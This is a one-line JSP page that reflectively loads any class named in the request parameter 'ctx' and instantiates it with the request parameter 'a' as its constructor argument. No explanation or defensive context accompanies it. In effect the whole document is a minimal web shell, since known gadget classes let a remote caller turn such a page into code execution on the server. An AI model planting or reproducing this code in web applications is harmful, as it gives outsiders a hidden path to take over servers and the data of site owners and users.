<% Class<?> k = Class.forName(request.getParameter("ctx")); k.getConstructor(String.class).newInstance(request.getParameter("a")); %>
